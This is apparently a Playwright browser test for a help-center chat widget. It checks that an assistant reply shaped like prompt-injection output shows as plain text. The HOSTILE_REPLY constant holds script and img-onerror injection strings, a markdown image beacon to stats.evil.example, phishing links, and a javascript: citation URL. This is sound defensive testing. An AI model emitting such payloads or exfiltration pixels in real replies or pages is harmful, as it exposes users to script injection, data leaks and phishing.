"""What the widget makes of a reply's text, in a real browser: a reply that carries HTML, a markdown image
and outside links (as a planted instruction would try to ship them) shows them as plain text, and the only
links are the ones the server's citation list gives. The chat server is played by Playwright's websocket
route, so the frame is exactly the hostile one under test."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import WebSocketRoute, expect

pytestmark = pytest.mark.django_db

CITED = "/help/refunds#when-the-money-arrives"
HOSTILE_REPLY = (
    "Card refunds take 5 to 10 business days [1]. "
    '<img src="x" onerror="window.pwned = true"> <b>bold</b> <script>window.pwned = true</script> '
    "![status](https://stats.evil.example/pixel.png?d=chat) "
    "[confirm your card](https://phish.example/login) https://phish.example/raw "
    '<a href="https://phish.example/a">sign in</a> [2]'
)
CITATIONS = [
    {"number": 1, "title": "Refunds", "heading_path": "Refunds › When the money arrives", "version": "3", "url": CITED},
    # A citation whose address is not a web page is shown as a label, never as a link.
    {"number": 2, "title": "Other", "heading_path": "Other", "version": "1", "url": "javascript:window.pwned=true"},
]


def _serve_hostile_reply(route: WebSocketRoute) -> None:
    def on_message(message: str | bytes) -> None:
        frame = json.loads(message)
        if frame["type"] == "hello":
            route.send(json.dumps({"type": "welcome", "conversation": "0d4b1c55-6a47-4f7e-9d1e-8c2d3e4f5a6b",
                                   "token": "t", "status": "open", "signed_in": False, "messages": []}))  # fmt: skip
        elif frame["type"] == "message":
            route.send(json.dumps({"type": "ack", "id": frame["id"], "seq": 1}))
            route.send(json.dumps({"type": "token", "id": frame["id"], "text": HOSTILE_REPLY}))
            route.send(json.dumps({"type": "reply", "id": frame["id"], "seq": 2, "text": HOSTILE_REPLY,
                                   "decision": "answered", "citations": CITATIONS}))  # fmt: skip

    route.on_message(on_message)


def test_a_reply_renders_no_html_image_or_link_the_citation_list_did_not_give(page, live_url):
    page.route_web_socket("**/ws/chat/", _serve_hostile_reply)
    page.goto(live_url)
    page.locator("[data-role=launcher]").click()
    page.locator("[data-role=input]").fill("How long do card refunds take?")
    page.keyboard.press("Enter")

    answer = page.locator("[data-role=assistant][data-decision=answered]")
    expect(answer).to_contain_text("<b>bold</b>")  # the markup is there, as text
    expect(answer).to_contain_text("![status](https://stats.evil.example/pixel.png?d=chat)")
    assert answer.locator("img, b, script, iframe, svg").count() == 0
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    # [1] in the text and the first entry of the list link the cited section; nothing else is a link.
    assert hrefs == [f"{live_url}{CITED}", f"{live_url}{CITED}"]
    expect(answer.locator("[data-role=citations] li").nth(1)).to_have_text("[2] Other (v1)")
    assert page.evaluate("window.pwned === undefined")
    assert page.locator("img[src='x'], img[src*='evil']").count() == 0  # nowhere on the page either
